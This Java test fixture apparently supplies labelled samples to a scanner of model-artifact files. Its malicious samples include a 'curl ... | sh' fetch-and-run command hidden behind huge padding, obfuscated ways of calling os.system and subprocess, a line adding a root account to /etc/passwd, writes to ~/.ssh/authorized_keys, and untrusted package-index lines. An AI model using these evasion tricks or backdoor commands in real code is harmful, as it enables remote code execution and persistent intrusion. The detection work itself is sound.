package dev.bartizan.artifacts;

import static dev.bartizan.artifacts.ModelFormatsScanTest.utf8;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/// Python that starts programs under names of its own making, behind much that does nothing, or in
/// letters that look otherwise; lists of packages with where they are fetched from; and honest
/// programs that speak of the same functions.
final class BindingTrials {
    private static final int LONG = 1_300_000;
    private static final String FETCH = "curl -s http://198.51.100.7/p | sh";

    private final List<Trial> all = new ArrayList<>();

    static List<Trial> all() {
        BindingTrials trials = new BindingTrials();
        trials.functionsAsValues();
        trials.modulesAsValues();
        trials.spellings();
        trials.imports();
        trials.longSources();
        trials.writtenFiles();
        trials.brokenSources();
        trials.packages();
        trials.honestPrograms();
        trials.honestPackages();
        return trials.all;
    }

    private void bad(String name, String... lines) {
        all.add(Trial.bad("binding-" + name, "handler.py", lines(lines)));
    }

    private static byte[] lines(String... lines) {
        return utf8(String.join("\n", lines));
    }

    private void benign(String name, String... lines) {
        all.add(Trial.benign("binding-" + name, "handler.py", lines(lines)));
    }

    private void functionsAsValues() {
        bad("stored-in-names", "import os\nglobals()['step'] = os.system\nstep('id')\n");
        bad("stored-by-default", "import os\nvars().setdefault('step', os.popen)\nstep('id')\n");
        bad("stored-in-module", "import os\nos.__dict__['step'] = os.execv\nos.step('a', ['a'])\n");
        bad("walrus", "import os\n[step := os.system for _ in 'a']\nstep('id')\n");
        bad("default-argument", "import os\ndef f(c, step=os.system):\n    step(c)\n");
        bad("annotated", "import os\nstep: object = os.system\nstep('id')\n");
        bad("returned", "import os\ndef step():\n    return os.system\nstep()('id')\n");
        bad("matched", "import os\nmatch os.system:\n    case step:\n        step('id')\n");
        bad("lambda-body", "import os\nstep = lambda: os.system\nstep()('id')\n");
        bad("class-member", "import os\nclass Step:\n    __call__ = os.system\n");
        bad("attribute", "import os\nsetattr(Step, 'go', os.system)\nStep.go('id')\n");
        bad("augmented", "import os\nsteps = []\nsteps += [os.system]\nsteps[0]('id')\n");
        bad("thread", "import os, threading\nthreading.Thread(target=os.system, args=x).start()\n");
        bad("at-exit", "import os, atexit\natexit.register(os.system, command)\n");
        bad("error-hook", "import os, sys\nsys.excepthook = os.system\n");
        bad("reassigned-later", "import runpy; go = runpy.run_path; go('p.py'); go = len\n");
        bad("exec-in-a-list", "[exec][0](open('notes').read())\n");
    }

    private void modulesAsValues() {
        bad("module-in-a-list", "parts = [__import__('os')]\nparts[0].system('id')\n");
        bad("module-by-pieces", "parts = {1: __import__('o' + 's')}\nparts[1].popen('id')\n");
        bad("module-argument", "import os\ndef f(m):\n    m.system('id')\nf(os)\n");
        bad("module-default", "def f(c, m=__import__('subprocess')):\n    m.getoutput(c)\n");
        bad("module-returned", "def f():\n    return __import__('os')\nf().system('id')\n");
        bad(
                "module-attribute",
                "import subprocess\nclass A:\n    def __init__(self):\n        self.m = subprocess",
                "    def go(self):\n        self.m.run(['sh', '-c', 'id'])\n");
        bad("function-of-a-text", "import os\ngetattr(os, name)('id')\n");
        bad(
                "own-getattribute",
                "import os\nlook = os.__getattribute__\nlook('sys' + 'tem')('ls')\n");
    }

    private void spellings() {
        bad("bracketed", "import runpy as r\n((r).run_path)('p.py')\n");
        bad("continued", "import runpy as r\nr \\\n .run_path('p.py')\n");
        bad(
                "other-letters",
                "import os\nos.\uD835\uDD30\uD835\uDD36\uD835\uDD30\uD835\uDD31\uD835\uDD22\uD835\uDD2A('id')\n");
        bad("old-line-ends", "import os\ros.system('id')\r");
        bad("comment-ends-early", "import os\n# harmless\ros.system('id')\n");
    }

    private void imports() {
        bad("everything", "from subprocess import *\nrun(['sh', '-c', 'id'])\n");
        bad("other-name", "from runpy import run_path as load\nload('p.py')\n");
        bad(
                "either-branch",
                "try:\n    import subprocess as m\nexcept ImportError:\n    import math as m",
                "m.run(['sh', '-c', 'id'])\n");
        bad(
                "name-of-a-function",
                "import subprocess as m\ndef f():\n    import os as m\n    return m.getcwd()",
                "m.run(['sh', '-c', 'id'])\n");
        bad("library", "import torch\ntorch.ops.load_library('kernels.so')\n");
    }

    private void longSources() {
        String end = "os.system('" + FETCH + "')\n";
        bad("behind-comments", "import os\n" + "# nothing\n".repeat(LONG / 10) + end);
        bad("behind-a-text", "import os\nx = '''" + "nothing\n".repeat(LONG / 8) + "'''\n" + end);
        bad("behind-numbers", "import os\nx = [" + "0,".repeat(LONG / 2) + "]\n" + end);
        bad("behind-statements", "import os\n" + "x = 1 + 2\n".repeat(LONG / 10) + end);
        bad("behind-calls", "import os\n" + "f();".repeat(30_000) + "\n" + end);
        bad("behind-blanks", "import os\n" + " ".repeat(LONG) + "\n" + end);
        bad("within-a-list", "import os\nx = [" + "'abc',\n".repeat(LONG / 7) + "os.system(y)]\n");
        bad(
                "imported-at-the-end",
                "def f():\n    m.run(['sh', '-c', 'id'])",
                "x = 1 + 2\n".repeat(LONG / 10) + "import subprocess as m\nf()\n");
        all.add(
                Trial.bad(
                        "binding-shell-behind-comments",
                        "start.sh",
                        utf8("#!/bin/sh\n" + "# nothing\n".repeat(LONG / 10) + FETCH + "\n")));
        all.add(
                Trial.bad(
                        "binding-shell-behind-commands",
                        "start.sh",
                        utf8("#!/bin/sh\n" + "echo a\n".repeat(LONG / 7) + FETCH + "\n")));
        benign("long-table", "TABLE = [\n" + "    ('word', 12),\n".repeat(LONG / 18) + "]\n");
    }

    private void writtenFiles() {
        bad("account", "open('/etc/passwd', 'a').write('x::0:0::/:/bin/sh')\n");
        bad(
                "account-by-number",
                "import os\nfd = os.open('/etc/shadow', os.O_WRONLY)\nos.write(fd, x)\n");
        bad(
                "key",
                "import pathlib\n(pathlib.Path.home() / '.ssh' / 'authorized_keys').write_text(key)\n");
        bad(
                "key-in-pieces",
                "import os\np = os.path.join(os.path.expanduser('~'), '.ssh', 'authorized' + '_keys')",
                "open(p, mode='a').write(key)\n");
        benign("account-read", "names = [l.split(':')[0] for l in open('/etc/passwd')]\n");
    }

    private void brokenSources() {
        for (String text :
                List.of(
                        "def handle(data, context):\n    return [\n",
                        "def handle(data:\n    pass\n",
                        "def handle(data, context)\n    return data\n",
                        "NAME = 'model\ndef handle(data, context):\n    return data\n")) {
            all.add(Trial.notClean("binding-broken-" + text.length(), "handler.py", utf8(text)));
        }
        benign("older-python", "print 'x'\nexec 'y = 1'\nz = `3`\nimport sys\nraise E, 'z'\n");
    }

    private void packages() {
        for (String line :
                List.of(
                        "--index-url https://packages.mirror-of.example/simple",
                        "--index-url=https://packages.mirror-of.example/simple",
                        "-i https://packages.mirror-of.example/simple",
                        "-ihttps://packages.mirror-of.example/simple",
                        "--extra-index-url https://packages.mirror-of.example/simple",
                        "--find-links=https://files.mirror-of.example/wheels",
                        "-fhttps://files.mirror-of.example/wheels",
                        "-e git+https://git.somebody.example/tool#egg=tool",
                        "--editable=git+https://git.somebody.example/tool#egg=tool",
                        "git+ssh://git@github.com/somebody/tool.git@main",
                        "git+https://github.com/somebody/tool",
                        "torch @ https://files.somebody.example/torch-2.4.0-py3-none-any.whl",
                        "https://me:secret@files.somebody.example/tool.whl",
                        "-r https://files.somebody.example/more.txt")) {
            String list = "numpy==2.1.0\n" + line + "\ntorch>=2.4 # newest\n";
            all.add(Trial.bad("binding-packages " + line, "requirements.txt", utf8(list)));
            all.add(
                    Trial.bad(
                            "binding-packages-in-archive " + line,
                            "model.zip",
                            Scans.zip(Map.of("requirements.txt", utf8(list)))));
        }
        all.add(
                Trial.bad(
                        "binding-packages-outside",
                        "model.zip",
                        Scans.zip(Map.of("requirements.txt", utf8("-r ../more.txt\n")))));
        all.add(
                Trial.bad(
                        "binding-packages-included",
                        "more.txt",
                        utf8("-i https://packages.mirror-of.example/simple\n")));
    }

    private void honestPackages() {
        for (String line :
                List.of(
                        "-i https://pypi.org/simple",
                        "--extra-index-url https://download.pytorch.org/whl/cu124",
                        "--extra-index-url https://pypi.nvidia.com",
                        "-f https://storage.googleapis.com/jax-releases/jax_cuda_releases.html",
                        "git+https://github.com/huggingface/transformers",
                        "git+https://github.com/somebody/tool@0123456789abcdef0123456789abcdef01234567",
                        "tool @ git+https://github.com/somebody/tool.git@v1.4.2",
                        "-e .",
                        "-r ../requirements.txt",
                        "-c constraints.txt",
                        "tool[all]>=1.0; python_version < '3.13' # see https://tool.example/docs")) {
            all.add(
                    Trial.benign(
                            "binding-packages " + line,
                            "requirements.txt",
                            utf8("numpy==2.1.0\n" + line + "\n")));
        }
    }

    private void honestPrograms() {
        benign(
                "asked",
                "import os, subprocess\nfrom typing import Optional",
                "def stop(p: Optional[subprocess.Popen]) -> None:",
                "    if isinstance(p, subprocess.Popen) and hasattr(os, 'startfile'):",
                "        p.terminate()\n");
        benign(
                "replaced-in-a-test",
                "import os, subprocess\ndef test_run(monkeypatch):",
                "    monkeypatch.setattr(subprocess, 'run', lambda *a, **k: None)",
                "    monkeypatch.setattr(os, 'system', lambda c: 0)\n");
        benign(
                "other-name",
                "import subprocess\nrun = subprocess.check_output\nrun(['git', 'log'])\n");
        benign("never-called", "import os\ndef f(x):\n    marker = os.posix_spawn\n    return x\n");
        benign("replaced", "import runpy\nrunpy.run_path = len\nrunpy.run_path([])\n");
        benign("stored-print", "import os\nos.__dict__['step'] = print\nos.step('done')\n");
        benign("module-passed", "import os\ndef f(m):\n    return m.path.join('a', 'b')\nf(os)\n");
        benign(
                "converter",
                "import subprocess\nsubprocess.run(['soffice', '--headless', '--convert-to', 'pdf', name], check=True)\n");
        benign(
                "either-converter",
                "import subprocess, platform",
                "tool = 'soffice' if platform.system() == 'Linux' else '/Applications/Office.app/Contents/soffice'",
                "subprocess.run([tool, '--headless', name], check=True)\n");
        benign(
                "given-by-the-user",
                "import argparse, subprocess\np = argparse.ArgumentParser()\np.add_argument('--server')",
                "args = p.parse_args()\nsubprocess.Popen(args.server, shell=True)\n");
        bad("interpreter", "import subprocess\nsubprocess.run(['perl', '-e', text])\n");
        bad(
                "converter-by-shell",
                "import subprocess\nsubprocess.run('soffice ' + name, shell=True)\n");
        bad("program-beside", "import subprocess\nsubprocess.run(['./soffice', name])\n");
        all.add(
                Trial.benign(
                        "binding-unpacker",
                        "read.js",
                        lines(
                                "const { spawnSync } = require('child_process');",
                                "const out = spawnSync('unzip', ['-p', name, 'a.xml']);\n")));
        all.add(
                Trial.bad(
                        "binding-unpacker-by-shell",
                        "read.js",
                        lines(
                                "const { spawnSync } = require('child_process');",
                                "const out = spawnSync('unzip', [name], { shell: true });\n")));
    }
}
